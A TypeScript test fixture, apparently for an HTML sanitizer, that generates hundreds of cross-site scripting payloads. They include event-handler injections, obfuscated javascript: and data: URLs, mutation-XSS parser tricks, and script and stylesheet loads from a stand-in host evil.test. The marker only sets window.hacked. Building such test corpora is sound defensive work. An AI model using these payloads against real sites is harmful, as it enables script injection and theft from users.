/**
 * Returns HTML by which an attacker could try to run a script in a reader's page. Each script would
 * set `window.hacked`.
 */
export function hostileHtml(): string[] {
  return [...new Set([...handlers(), ...addresses(), ...tricks()])]
}

const RUN = 'window.hacked=1'

const EVENTS = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onfocus',
    'onmouseover',
    'onpointerenter',
    'ontoggle',
    'onanimationstart',
    'ontransitionend',
  ],
  ...[
    'onbeforeinput',
    'oncut',
    'onscroll',
    'onwheel',
    'oncontentvisibilityautostatechange',
    'onbegin',
    'onend',
    'ONLOAD',
    'oNeRrOr',
  ],
]
const ELEMENTS = [
  ...[
    'a',
    'b',
    'p',
    'td',
    'h2',
    'img src=x',
    'svg',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'body',
  ],
  ...['marquee', 'x-made-up', 'iframe', 'object data=x', 'select autofocus', 'math'],
]

function handlers(): string[] {
  return EVENTS.flatMap((event) => ELEMENTS.map((element) => `<${element} ${event}="${RUN}">text`))
}

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  'java\tscript:',
  'java\nscript:',
  'java&#9;script:',
  'java&NewLine;script:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  '&#0000106avascript:',
  '\u0001javascript:',
  'javascript&#58;',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=',
  'blob:https://casino.test/',
  'feed:javascript:',
  'view-source:javascript:',
  '//evil.test/',
  '\\\\evil.test\\',
]
const CARRIERS = [
  (url: string) => `<a href="${url}${RUN}">press</a>`,
  (url: string) => `<a href='${url}${RUN}'>press</a>`,
  (url: string) => `<a href=${url.trim()}${RUN}>press</a>`,
  (url: string) => `<a xlink:href="${url}${RUN}">press</a>`,
  (url: string) => `<svg><a href="${url}${RUN}"><text y=20>press</text></a></svg>`,
  (url: string) => `<math href="${url}${RUN}">press</math>`,
  (url: string) => `<iframe src="${url}${RUN}"></iframe>`,
  (url: string) => `<form action="${url}${RUN}"><button>press</button></form>`,
  (url: string) => `<button formaction="${url}${RUN}">press</button>`,
  (url: string) => `<object data="${url}${RUN}"></object>`,
  (url: string) => `<embed src="${url}${RUN}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}${RUN}">`,
  (url: string) => `<td background="${url}${RUN}">x</td>`,
  (url: string) => `<base href="${url}${RUN}//">`,
]

function addresses(): string[] {
  return SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => carry(scheme)))
}

/**
 * Where parsers disagree: what is closed, what is text, and what a second reading makes of the
 * first.
 */
function tricks(): string[] {
  const script = `<script>${RUN}</script>`
  const image = `<img src=x onerror=${RUN}>`
  const wrappers = [
    'title',
    'textarea',
    'style',
    'noscript',
    'xmp',
    'noembed',
    'noframes',
    'template',
    'iframe',
    'select',
    'math',
    'svg',
    'table',
  ]
  return [
    script,
    `<SCRIPT SRC=https://evil.test/x.js></SCRIPT>`,
    `<scr<script>ipt>${RUN}</scr</script>ipt>`,
    `<<script>${RUN}//<</script>`,
    `<script/x>${RUN}</script >`,
    `<svg><script>${RUN}</script></svg>`,
    `<svg><script href="data:,${RUN}"/></svg>`,
    `<svg><animate attributeName=href values=javascript:${RUN} /><a><text y=9>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
    `<svg><foreignObject>${image}</foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
    `<!--><img src=x onerror=${RUN}>-->`,
    `<!--!> ${image} -->`,
    `<![CDATA[>${image}]]>`,
    `<?xml version="1.0"?>${image}`,
    `<a href="x" title="</a>${image}">x</a>`,
    `<p title="&quot;><img src=x onerror=${RUN}>">x</p>`,
    `<img src="x\` \`<script>${RUN}</script>"\` \`>`,
    `<img src=x:x onerror\n=\n${RUN}>`,
    `<img/src=x/onerror=${RUN}>`,
    `<img src=x onerror=&#119;indow.hacked=1>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
    `<style>@import 'https://evil.test/x.css'; * { background: url(javascript:${RUN}) }</style>`,
    `<p style="background:url(javascript:${RUN});position:fixed;inset:0">x</p>`,
    `<link rel=stylesheet href=https://evil.test/x.css>`,
    `<a id=state name=state href=x>x</a><form id=app><input name=textContent></form>`,
    `<details open ontoggle=${RUN}><summary>x</summary></details>`,
    `<b>unclosed <i>and <a href="https://ok.test`,
    `</div></body></html>${script}`,
    '<x>'.repeat(500) + image,
    ...wrappers.flatMap((tag) => [
      `<${tag}>${image}</${tag}>`,
      `<${tag}></${tag}${image}`,
      `<${tag}><p id="</${tag}>${image}">`,
      `</${tag}>${script}`,
    ]),
  ]
}
